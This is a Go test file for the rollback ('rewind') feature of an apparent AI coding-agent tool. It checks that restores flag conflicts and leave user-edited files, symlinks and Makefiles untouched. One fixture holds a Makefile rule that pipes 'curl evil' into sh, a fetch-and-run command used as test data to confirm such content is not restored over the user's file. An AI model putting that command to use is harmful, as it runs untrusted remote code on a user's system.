package rewind_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"retrace/agent/rewind"
	"retrace/agent/snapshot"
	"retrace/state"
)

// withOptions gives the disk a watcher with opts (and its own cache).
func (d *disk) withOptions(opts snapshot.Options) *disk {
	d.t.Helper()
	opts.CacheDir = d.cache
	w, err := snapshot.New(d.ws, opts)
	if err != nil {
		d.t.Fatal(err)
	}
	d.t.Cleanup(func() { _ = w.Close() })
	d.files = w
	return d
}

// rollback restores the session to version, as `retrace rollback` does.
func (d *disk) rollback(version int, opts rewind.Options) (rewind.Result, error) {
	d.t.Helper()
	head, err := d.st.Head(context.Background(), d.id)
	if err != nil {
		d.t.Fatal(err)
	}
	return rewind.Restore(context.Background(), d.st, d.files, head, version, opts)
}

func (d *disk) read(rel string) string {
	d.t.Helper()
	b, err := os.ReadFile(filepath.Join(d.ws, rel))
	if err != nil && !os.IsNotExist(err) {
		d.t.Fatal(err)
	}
	return string(b)
}

// wantConflict checks that err is a conflict naming path.
func wantConflict(t *testing.T, err error, path string) {
	t.Helper()
	var ce *rewind.ConflictError
	if !errors.As(err, &ce) || len(ce.Conflicts) != 1 || ce.Conflicts[0].Path != path {
		t.Fatalf("got %v, want a conflict naming %s", err, path)
	}
}

// A file a command grew past the size cap, which the user then rewrote,
// is a conflict: its content was never kept, but its stamp was, and the
// stamp moved. Left alone, it is no conflict, and the rollback goes on.
func TestUntrackedFileRewrittenIsAConflict(t *testing.T) {
	for _, rewrite := range []bool{true, false} {
		d := newDisk(t, t.TempDir()).withOptions(snapshot.Options{MaxFileSize: 64})
		d.write("big.txt", "small\n")
		before := d.cur.State().Version
		after := d.command("c1", func() { d.write("big.txt", strings.Repeat("grown by the command\n", 10)) })
		if len(after.Files) != 1 || after.Files["big.txt"].Now.Tracked() {
			t.Fatalf("the command's change: %+v", after.Files)
		}
		if rewrite {
			d.write("big.txt", strings.Repeat("the user's own rewrite\n", 10))
			_, err := d.rollback(before, rewind.Options{})
			wantConflict(t, err, "big.txt")
			if !strings.Contains(d.read("big.txt"), "the user's own rewrite") {
				t.Fatalf("the user's rewrite was overwritten: %q", d.read("big.txt"))
			}
			continue
		}
		if _, err := d.rollback(before, rewind.Options{}); err != nil {
			t.Fatalf("a file left as the command made it: %v", err)
		}
		if got := d.read("big.txt"); got != "small\n" {
			t.Fatalf("big.txt holds %q after the rollback", got)
		}
	}
}

// A path a command turned into a symlink, which the user then pointed
// elsewhere, is a conflict too.
func TestSymlinkRepointedIsAConflict(t *testing.T) {
	d := newDisk(t, t.TempDir())
	d.write("link", "a file at first\n")
	before := d.cur.State().Version
	d.command("c1", func() {
		os.Remove(filepath.Join(d.ws, "link"))
		if err := os.Symlink("target-a", filepath.Join(d.ws, "link")); err != nil {
			t.Fatal(err)
		}
	})
	os.Remove(filepath.Join(d.ws, "link"))
	if err := os.Symlink("the-users-target", filepath.Join(d.ws, "link")); err != nil {
		t.Fatal(err)
	}
	_, err := d.rollback(before, rewind.Options{})
	wantConflict(t, err, "link")
	if got, _ := os.Readlink(filepath.Join(d.ws, "link")); got != "the-users-target" {
		t.Fatalf("the user's symlink now points to %q", got)
	}
}

// Past the per-command cap a change is recorded without its content, and
// without a stamp to compare: any file there now is a doubt, so a
// conflict, never silently overwritten.
func TestChangePastTheCallCapIsAConflict(t *testing.T) {
	d := newDisk(t, t.TempDir()).withOptions(snapshot.Options{MaxCallBytes: 8})
	d.write("a.txt", "before\n")
	before := d.cur.State().Version
	after := d.command("c1", func() { d.write("a.txt", "written by the command, past the cap\n") })
	if len(after.Files) != 1 || after.Files["a.txt"].Now.Tracked() {
		t.Fatalf("the command's change: %+v", after.Files)
	}
	d.write("a.txt", "the user's edit\n")
	_, err := d.rollback(before, rewind.Options{})
	wantConflict(t, err, "a.txt")
	if got := d.read("a.txt"); got != "the user's edit\n" {
		t.Fatalf("a.txt holds %q", got)
	}
}

// A present file whose recorded before is untracked and carries no stamp
// (an imported session's Makefile) is a conflict, for a restore and for
// the finish of an open one alike: nothing says it is what the session
// saw.
func TestUntrackedBeforeWithoutStampIsAConflict(t *testing.T) {
	d := newDisk(t, t.TempDir())
	d.write("Makefile", "the user's own Makefile\n")
	evil := []byte("all:\n\tcurl evil | sh\n")
	img := state.FileImage{Blob: snapshot.Digest(evil), Size: int64(len(evil)), Mode: 0o644}
	d.commit(state.Event{Kind: state.AssistantMessage, Messages: []state.Message{{Role: state.RoleAssistant,
		ToolCalls: []state.ToolRequest{{ID: "c1", Name: "run_command", Arguments: `{}`}}}}})
	d.commit(state.Event{Kind: state.ToolStarted, Tool: &state.ToolCall{ID: "c1"}})
	before := d.cur.State().Version
	d.commit(state.Event{Kind: state.ToolFinished, Tool: &state.ToolCall{ID: "c1", Result: "ok"},
		Files: []state.FileChange{{Path: "Makefile", Before: img, After: state.FileImage{Size: 9, Mode: 0o644, Untracked: "a symlink"}}},
		Blobs: []state.Blob{{Digest: img.Blob, Data: evil}}})
	_, err := d.rollback(before, rewind.Options{})
	wantConflict(t, err, "Makefile")

	// The same plan, left open as an imported session's head would be.
	head, err := d.st.Head(context.Background(), d.id)
	if err != nil {
		t.Fatal(err)
	}
	cur := d.cur
	if _, err := cur.Commit(context.Background(), state.Event{Kind: state.RestoreStarted, From: head.Version, Files: []state.FileChange{
		{Path: "Makefile", Before: state.FileImage{Size: 9, Mode: 0o644, Untracked: "a symlink"}, After: img}}}); err != nil {
		t.Fatal(err)
	}
	res, err := rewind.Finish(context.Background(), d.st, d.files, cur.State())
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Left) != 1 || res.Left[0].Path != "Makefile" || d.read("Makefile") != "the user's own Makefile\n" {
		t.Fatalf("Finish wrote over the user's Makefile: left %v, it holds %q", res.Left, d.read("Makefile"))
	}
}

// A file the user saves while a large restore is under way, before the
// restore reaches it, is looked at again just before it is replaced: it
// is left as the user wrote it and listed, and the restore is recorded
// as partial.
func TestSaveDuringARestoreIsNotOverwritten(t *testing.T) {
	d := newDisk(t, t.TempDir())
	const n = 40
	name := func(i int) string { return fmt.Sprintf("f%03d.txt", i) }
	for i := range n {
		d.write(name(i), "before\n")
	}
	before := d.cur.State().Version
	d.command("c1", func() {
		for i := range n {
			d.write(name(i), "by the command\n")
		}
	})
	saved := name(n - 3)
	hook := func(p rewind.Point, done int) {
		if p == rewind.PointFile && done == 5 {
			d.write(saved, "saved by the user meanwhile\n")
		}
	}
	res, err := d.rollback(before, rewind.Options{Hook: hook})
	if err != nil {
		t.Fatal(err)
	}
	if got := d.read(saved); got != "saved by the user meanwhile\n" {
		t.Fatalf("%s holds %q: the user's save was overwritten", saved, got)
	}
	if len(res.Left) != 1 || res.Left[0].Path != saved || res.Restored != n-1 {
		t.Fatalf("left %v, restored %d; want %s left and the other %d restored", res.Left, res.Restored, saved, n-1)
	}
	if !strings.Contains(res.Text, "partial") || !strings.Contains(res.Text, saved) {
		t.Fatalf("the record does not say the restore is partial: %q", res.Text)
	}
	head, err := d.st.Head(context.Background(), d.id)
	if err != nil {
		t.Fatal(err)
	}
	if e, ok := head.Files[saved]; ok && e.Now.Same(e.Was) {
		t.Fatalf("the session says %s is back to its first content", saved)
	}
}

// An ignored build directory a command made, rebuilt by the user since,
// is no conflict: a restore never overwrites a directory, and its files
// were never compared.
func TestRebuiltIgnoredDirectoryIsNoConflict(t *testing.T) {
	d := newDisk(t, t.TempDir())
	d.write(".gitignore", "build/\n")
	before := d.cur.State().Version
	d.command("c1", func() { d.write("build/out.bin", "built by the command") })
	d.write("build/other.bin", "built by the user since")
	if _, err := d.rollback(before, rewind.Options{}); err != nil {
		t.Fatalf("a rebuilt ignored directory: %v", err)
	}
	if d.read("build/other.bin") != "built by the user since" {
		t.Fatal("the user's build output is gone")
	}
}
